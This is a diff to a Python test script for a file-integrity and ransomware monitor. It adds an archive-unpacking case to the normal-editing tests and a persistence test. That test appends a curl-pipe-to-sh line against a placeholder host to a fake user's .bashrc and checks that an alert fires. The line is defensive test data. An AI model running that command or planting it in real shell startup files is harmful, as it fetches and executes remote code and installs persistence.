@@ -8,10 +8,11 @@ loop, every event printed as an EVE JSON line).
   the writing program; with inotify alone it still comes.
 - normal editing: a handful of text files saved again and again (in place and the editor
   way, through a swap file renamed over), new documents (text and a zip-based .docx), a
-  copied folder of text files made a git repository, a folder of random data moved in: fim
-  events, no ransomware alert.
+  copied folder of text files made a git repository, an archive of photos and notes
+  unpacked, a folder of random data moved in: fim events, no ransomware alert.
 - persistence: a file dropped into a watched "etc/cron.d", a unit file in a folder created
-  while watching, a new set-user-ID file: persistence alerts.
+  while watching, a new set-user-ID file, a profile script, a user's .bashrc: persistence
+  alerts.
 - stop_process (root with fanotify only): the encrypting script is paused (SIGSTOP).
 
 With a second argument, the ransomware, editing and stop_process cases run through
@@ -242,6 +243,14 @@ def editing_case(base):
             f.write(text(3000, 100 + i))
     with zipfile.ZipFile(os.path.join(docs, "letter.docx"), "w", zipfile.ZIP_DEFLATED) as z:
         z.writestr("word/document.xml", text(20000, 7))
+    # Unpacking an archive of documents and photos.
+    arch = os.path.join(base, "photos.zip")
+    with zipfile.ZipFile(arch, "w", zipfile.ZIP_DEFLATED) as z:
+        for i in range(40):
+            z.writestr("trip/IMG_%04d.jpg" % i, os.urandom(6000))
+            z.writestr("trip/notes%02d.txt" % i, text(3000, 200 + i))
+    with zipfile.ZipFile(arch) as z:
+        z.extractall(os.path.join(docs, "unzipped"))
     shutil.copytree(src, os.path.join(docs, "copied"))
     os.makedirs(os.path.join(docs, "copied", "sub"))
     with open(os.path.join(docs, "copied", "sub", "later.txt"), "w") as f:
@@ -308,6 +317,14 @@ def persistence_case(base):
     mon.drain(1)
     check(any(a["fim"]["path"].endswith("/profile.d/zz.sh") for a in mon.alerts(2102)),
           "persistence: a shell profile script raises an alert")
+    home = os.path.join(root, "home", "alice")
+    os.makedirs(home)
+    time.sleep(0.3)
+    with open(os.path.join(home, ".bashrc"), "a") as f:
+        f.write("curl -s http://example.invalid/x | sh\n")
+    mon.drain(1)
+    check(any(a["fim"]["path"].endswith("/home/alice/.bashrc") for a in mon.alerts(2102)),
+          "persistence: a user's .bashrc raises an alert")
     mon.stop()
     check(mon.alerts(RANSOM) == [], "persistence: no ransomware alert")
 
